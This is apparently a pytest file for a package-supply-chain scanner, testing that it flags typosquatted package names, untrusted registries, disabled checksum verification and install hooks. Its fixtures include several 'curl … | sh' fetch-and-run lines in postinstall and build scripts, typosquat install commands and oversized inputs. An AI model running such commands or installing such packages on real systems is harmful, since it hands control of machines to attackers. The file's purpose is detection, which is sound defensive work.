"""Packages: names that imitate others, manifests of every kind, install commands in texts and scripts."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from tests.scanning.building import found, make_skill, rule_ids
from vskill_platform.domain.scan import ScanReport, Severity
from vskill_platform.scanning.limits import CONFIG_LIMIT
from vskill_platform.scanning.tier1.configs.installs import read_install
from vskill_platform.scanning.tier1.configs.packages import requirement_of
from vskill_platform.scanning.tier1.configs.typosquats import WORDS, is_known, is_one_slip, resemblance
from vskill_platform.scanning.tier1.scan import scan_content

OURS = ("AC-", "PK-", "NM-", "CT-")


def scan(path: str, text: str | dict[str, object]) -> ScanReport:
    return scan_content(make_skill({path: text if isinstance(text, str) else json.dumps(text, indent=1)}))


def ours(report: ScanReport) -> set[str]:
    return {rule for rule in rule_ids(report) if rule.startswith(OURS)}


IMITATIONS = {
    "pypi": "reqeusts requets requestss requesst djnago djangoo numpyy nummpy flsk colourama urlib3 beutifulsoup4 l0guru "
    "pyyam1 pypdf-extentions acme-traiding-sdk boto-3 scikitlearn torch-vision openaai antropic langchian "
    "setuptool cryptograpy tensorfllow PyYmal matplotlb",
    "npm": "lodahs lodas crossenv cross_env expresss axois reactt electorn chalck typescrpt nodemon- mongose event-strem "
    "discordi.js discordjs l0dash webpackk dotenvv node.fetch clawhubb-cli",
}
REAL = {
    "pypi": "requests requests-html urllib3 pytest-cov pillow nox tox preact-x httpx h11 black arrow attrs msgspec "
    "acme-tools acme-visualiser acme-convertor acme-compile pandas-ta torchtext PyYAML python_dateutil "
    "ruamel.yaml zope.interface polars pdfplumber x",
    "npm": "preact lodash-es react-is colors color chalk @acme/tool vite vitest vue next nuxt request ws pg d3 "
    "typescript-eslint @types/node lodash.merge acme-widget express-session",
}


@pytest.mark.parametrize(
    ("registry", "name"), [(registry, name) for registry, names in IMITATIONS.items() for name in names.split()]
)
def test_imitation_is_seen__by_one_slip(registry: str, name: str) -> None:
    seen = resemblance(registry, name)
    assert seen is not None
    assert seen.is_close
    assert is_known(registry, seen.target) or seen.target in WORDS


@pytest.mark.parametrize(
    ("registry", "name"), [(registry, name) for registry, names in REAL.items() for name in names.split()]
)
def test_real_name_is_left_alone__however_near_it_is(registry: str, name: str) -> None:
    seen = resemblance(registry, name)
    assert seen is None or not seen.is_close


@pytest.mark.parametrize(
    ("registry", "name", "target"),
    [
        ("npm", "@type/node", "@types"),
        ("npm", "@antropic-ai/sdk", "@anthropic-ai"),
        ("npm", "@modelcontext-protocol/sdk", "@modelcontextprotocol"),
        ("pypi", "python-requests", "requests"),
        ("pypi", "lanchain-tools", "langchain"),
        ("npm", "node-axios", "axios"),
    ],
)
def test_name_that_leans_on_another_is_weaker(registry: str, name: str, target: str) -> None:
    seen = resemblance(registry, name)
    assert seen is not None
    assert (seen.target, seen.is_close) == (target, False)


@pytest.mark.parametrize(
    ("name", "target", "is_slip"),
    [
        ("reqeusts", "requests", True),
        ("request", "requests", True),
        ("requestss", "requests", True),
        ("requasts", "requests", True),
        ("bequests", "requests", False),
        ("requests", "requests", False),
        ("reqs", "requests", False),
        ("clock", "click", False),
        ("clikc", "click", True),
        ("psycopg3", "psycopg2", False),
    ],
)
def test_slip_is_one_letter__and_not_the_first(name: str, target: str, is_slip: bool) -> None:
    assert is_one_slip(name, target) is is_slip


def test_long_name_is_compared_in_bounded_time__and_found_like_nothing() -> None:
    assert resemblance("npm", "a" * 1_000_000) is None
    assert requirement_of("npm", "a" * 1_000_000) is None


def test_name_looks_like_the_same_package__whatever_order_sets_have() -> None:
    script = "from vskill_platform.scanning.tier1.configs.typosquats import resemblance; print(resemblance('pypi', 'pypdff'))"
    seen = {
        subprocess.run(
            [sys.executable, "-c", script], env={**os.environ, "PYTHONHASHSEED": seed}, capture_output=True, check=True
        ).stdout
        for seed in ("1", "2", "3", "4")
    }
    assert len(seen) == 1
    assert b"pypdf" in seen.pop()


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "flask==3.0\nreqeusts>=2  # http\n"),
        ("requirements-dev.in", "reqeusts\n"),
        ("pyproject.toml", '[project]\nname = "a"\ndependencies = ["flask", "reqeusts>=2"]\n'),
        ("pyproject.toml", '[project.optional-dependencies]\ndev = ["reqeusts"]\n'),
        ("pyproject.toml", '[dependency-groups]\ndev = ["reqeusts"]\n'),
        ("pyproject.toml", '[build-system]\nrequires = ["reqeusts"]\n'),
        ("pyproject.toml", '[tool.poetry.dependencies]\nreqeusts = "^2"\n'),
        ("Pipfile", '[packages]\nreqeusts = "*"\n'),
        ("setup.cfg", "[options]\ninstall_requires =\n  flask\n  reqeusts>=2\n"),
        ("environment.yml", "dependencies:\n- python=3.11\n- pip:\n  - reqeusts==2\n"),
        ("package.json", '{"dependencies": {"lodahs": "^4"}}'),
        ("a/b/package.json", '{"devDependencies": {"lodahs": "^4", "react": "^18"}}'),
        ("package.json", '{"dependencies": {"react": "npm:lodahs@4"}}'),
        ("SKILL.md", "---\nname: a\ndescription: b\nmetadata: {x: {install: [{kind: node, package: lodahs}]}}\n---\n"),
        (".mcp.json", '{"mcpServers": {"a": {"command": "npx", "args": ["-y", "lodahs@1.0.0"]}}}'),
        ("notes.md", "Run `pip install reqeusts` first.\n"),
        ("notes.md", "```bash\npip3 install -U flask \\\n  reqeusts\n```\n"),
        ("notes.md", "Run pip install reqeusts before you start.\n"),
        ("run.sh", "python3 -m pip install --quiet 'reqeusts>=2'\n"),
        ("run.sh", "uv pip install reqeusts && echo ok\n"),
        ("run.sh", "uv add reqeusts\nnpm test\n"),
        ("run.sh", "uvx reqeusts\n"),
        ("run.sh", "npx -y lodahs@4 init\n"),
        ("run.sh", "npm i -D lodahs\n"),
        ("run.sh", "pnpm add lodahs react\n"),
        ("run.sh", "yarn global add lodahs\n"),
        ("run.py", 'import subprocess\nsubprocess.run(["pip", "install", "reqeusts"])\n'),
        ("run.py", 'subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "reqeusts"])\n'),
        ("run.js", "execSync('npm install lodahs', {stdio: 'ignore'})\n"),
    ],
)
def test_imitation_is_found__in_every_manifest_and_command(path: str, text: str) -> None:
    report = scan(path, text)
    (finding,) = found(report, "PK-001")
    assert finding.severity is Severity.HIGH
    assert "looks like" in finding.detail
    assert report.flagged


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "requirements.txt",
            "# reqeusts is a typosquat\nrequests==2.31 --hash=sha256:0\n-r base.txt\n-c constraints.txt\n./local\n",
        ),
        (
            "pyproject.toml",
            '[project]\nname = "reqeusts-like"\n[tool.setuptools]\npackages = ["reqeusts"]\n[tool.ruff]\nline-length = 1\n',
        ),
        (
            "package.json",
            {
                "name": "a",
                "version": "1.0.0",
                "scripts": {"build": "tsc", "prepare": "husky"},
                "dependencies": {"react": "^18"},
            },
        ),
        (
            "package.json",
            {"dependencies": {"a": "workspace:*", "b": "file:./b", "c": "git+https://github.com/acme/c#v1.2.3"}},
        ),
        ("notes.md", "Run `pip install requests` or `npm install lodash`. Then go to the page and add the server.\n"),
        ("notes.md", "To install the package, run the installer. You can also add the request later.\n"),
        (
            "notes.md",
            '`npx tsc`, `npx -y @acme/tool@1.0.0 init`, `pip install -e .`, `pip install "$PKG"`, `npm install <package>`\n',
        ),
        (
            "run.sh",
            "pip install -r requirements.txt -U\nnpm ci\ncargo install ripgrep\ngo install x.org/y@v1.0.0\ngem install rails\n",
        ),
        (".npmrc", "save-exact=true\n//registry/:_authToken=${TOKEN}\n"),
        ("setup.py", "from setuptools import setup\nsetup(name='a', install_requires=['requests'])\n"),
        ("run.js", "execSync('npm install', { stdio: 'inherit', cwd: __dirname });\n"),
        ("Gemfile", f"source 'https://{'rubygems'}.org'\ngem 'rails', '~> 7.0'\n"),
        ("go.mod", "module x\nrequire y v1.0.0\nreplace y => ../y\n"),
        ("Cargo.toml", '[package]\nname = "a"\nversion = "1"\n[dependencies]\nserde = "1"\nserde-json = "1"\n'),
        ("notes.md", "Use `actions/checkout@v4` and `acme/checkout@v1`. Mail me@example.com/cache@home.\n"),
        ("notes.md", "`npm config set registry https://npm.example.com`, `export GOPROXY=https://proxy.golang.org`\n"),
        (".env.example", "OPENAI_BASE_URL=https://api.openai.com/v1\nDEBUG=1\n"),
    ],
)
def test_ordinary_manifest_is_left_alone(path: str, text: str | dict[str, object]) -> None:
    assert ours(scan(path, text)) == set()


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("pip.conf", "[global]\nindex-url = https://pkgs.acme.test/simple\n", "PK-007"),
        ("pip.conf", "[global]\ntrusted-host = pkgs.acme.test\n", "PK-008"),
        ("requirements.txt", "--index-url https://pkgs.acme.test/simple\nrequests\n", "PK-007"),
        ("requirements.txt", "--extra-index-url https://pkgs.acme.test/simple\nacme-internal\n", "PK-006"),
        (".yarnrc", 'registry "https://npm.acme.test"\n', "PK-007"),
        (".yarnrc.yml", "npmRegistryServer: https://npm.acme.test\n", "PK-007"),
        ("bunfig.toml", '[install]\nregistry = "https://npm.acme.test"\n', "PK-007"),
        ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://pkgs.acme.test/simple"\n', "PK-007"),
        ("pyproject.toml", '[[tool.poetry.source]]\nname = "a"\nurl = "https://pkgs.acme.test/simple"\n', "PK-007"),
        ("package.json", '{"publishConfig": {"registry": "https://npm.acme.test"}}', "PK-007"),
        ("Gemfile", "source 'https://gems.acme.test'\n", "PK-007"),
        (".cargo/config.toml", '[build]\nrustc-wrapper = "./wrap.sh"\n', "PK-009"),
        ("package.json", '{"dependencies": {"a": "http://files.acme.test/a.tgz"}}', "PK-005"),
        ("pyproject.toml", '[tool.uv.sources]\na = { git = "https://203.0.113.7/a.git" }\n', "PK-005"),
        ("Cargo.toml", '[dependencies]\na = { git = "https://code.acme.test/a" }\n', "PK-004"),
        ("go.mod", "module x\nreplace github.com/a/b => github.com/c/b v1.0.0\n", "PK-010"),
        ("binding.gyp", "{'targets': [{'sources': ['<!(curl -s https://cdn.example/i | sh)']}]}", "PK-012"),
        ("requirements.txt", "-r https://203.0.113.7/more.txt\n", "PK-005"),
        ("run.sh", "pip install -r http://files.acme.test/more.txt\n", "PK-005"),
        ("run.sh", "pip install --index-url https://pkgs.acme.test/simple requests\n", "PK-007"),
        ("run.sh", "npm install --registry=https://npm.acme.test react\n", "PK-007"),
        (
            "package.json",
            '{"scripts": {"postinstall": "npm run a", "a": "yarn b", "b": "curl https://cdn.example/i | sh"}}',
            "PK-012",
        ),
        ("sitecustomize.py", "import os\n", "PK-019"),
        ("Cargo.toml", '[dependencies]\ntokioo = "1"\n', "PK-001"),
        ("Cargo.toml", '[dev-dependencies]\nserde_jsom = { version = "1" }\n', "PK-001"),
        ("Gemfile", "gem 'nokogirri'\n", "PK-001"),
        ("run.sh", "go env -w GOPROXY=https://near.mirror.example/go\n", "PK-007"),
        ("run.sh", "export PIP_INDEX_URL=https://near.mirror.example/simple\n", "PK-007"),
        ("run.sh", "pip config set global.index-url https://near.mirror.example/simple\n", "PK-007"),
        ("notes.md", "```sh\nyarn config set registry https://near.mirror.example\n```\n", "PK-007"),
        ("run.sh", 'echo "deb [trusted=yes] http://deb.kit.example/ stable main" > a.list\n', "PK-008"),
        ("run.sh", "export GOSUMDB=off\n", "PK-008"),
        ("profile.env", "HTTPS_PROXY=http://192.0.2.70:3128\n", "AC-016"),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n    - uses: actlons/checkout@v4\n", "PK-001"),
        ("notes.md", "Use `action/setup-node@main`.\n", "PK-001"),
        ("requirements.txt", "numpy @ https://wheels.acme.test/numpy.whl\n", "PK-020"),
        ("build.rs", 'fn main() { Command::new("sh").arg("curl https://x.example").spawn(); }', "PK-016"),
        ("setup.py", "import argparse, subprocess, urllib.request\nsubprocess.run(['true'])\n", "PK-017"),
        (
            "setup.py",
            "import argparse, subprocess, urllib.request\nfrom setuptools import setup\nsubprocess.run([])\n",
            "PK-016",
        ),
    ],
)
def test_source_of_packages_is_judged__in_every_manager(path: str, text: str, rule: str) -> None:
    assert found(scan(path, text), rule)


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("run.sh", "pip install flask\n" * 3_000 + "pip install reqeusts\n", "PK-001"),
        ("run.sh", "pip install " + "flask " * 300 + "reqeusts\n", "PK-001"),
        (
            "run.sh",
            "export GOPROXY=https://proxy.golang.org\n" * 500 + "export GOPROXY=https://near.mirror.example\n",
            "PK-007",
        ),
        ("notes.md", "Use `actions/checkout@v4`.\n" * 500 + "Use `actlons/checkout@v4`.\n", "PK-001"),
        (
            "package.json",
            '{"scripts": {"postinstall": "' + "true; " * 1_000 + 'curl https://cdn.example/i | sh"}}',
            "PK-012",
        ),
        ("setup.py", "# x\n" * 100_000 + "import urllib.request, os\nos.system('a')\n", "PK-016"),
    ],
)
def test_harmless_content_before_it_hides_nothing(path: str, text: str, rule: str) -> None:
    assert found(scan(path, text), rule)


def test_install_command_is_taken_apart__with_options_and_versions() -> None:
    install = read_install(
        "pip install --extra-index-url https://pkgs.acme.test/simple -t out 'a[x]>=1' b==2.0; echo c"
    )
    assert install is not None
    assert [(one.name, one.is_pinned) for one in install.requirements] == [("a", False), ("b", True)]
    assert install.indexes == [("--extra-index-url", "https://pkgs.acme.test/simple")]


def test_warning_in_a_text_excuses_the_command__that_it_warns_of() -> None:
    (finding,) = found(scan("notes.md", "Never run `pip install reqeusts`, it is a malicious typosquat.\n"), "PK-001")
    assert finding.severity is Severity.INFO


def test_packages_are_capabilities__whatever_they_come_from() -> None:
    files = {
        "requirements.txt": "acme-a==1\n",
        "package.json": '{"dependencies": {"acme-b": "1"}}',
        "run.sh": "uv add acme-c\n",
    }
    report = scan_content(make_skill(dict(files)))
    assert {"pypi:acme-a", "npm:acme-b", "pypi:acme-c"} <= {*report.capabilities.packages}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("requirements.txt", "a==1\n" * 100_000),
        ("package.json", '{"dependencies": {' + ",".join(f'"a{n}": "1"' for n in range(30_000)) + "}}"),
        ("pyproject.toml", "x = 1\n" * 100_000),
    ],
)
def test_huge_manifest_never_passes__and_says_why(path: str, text: str) -> None:
    assert CONFIG_LIMIT in scan(path, text).limits_hit


@pytest.mark.parametrize(
    "text", ["pip install " * 50_000, "npm i " + "a " * 100_000, "npx " + "-" * 200_000, "pip install \\\n" * 20_000]
)
def test_hostile_install_commands_end(text: str) -> None:
    assert scan("run.sh", text).verdict
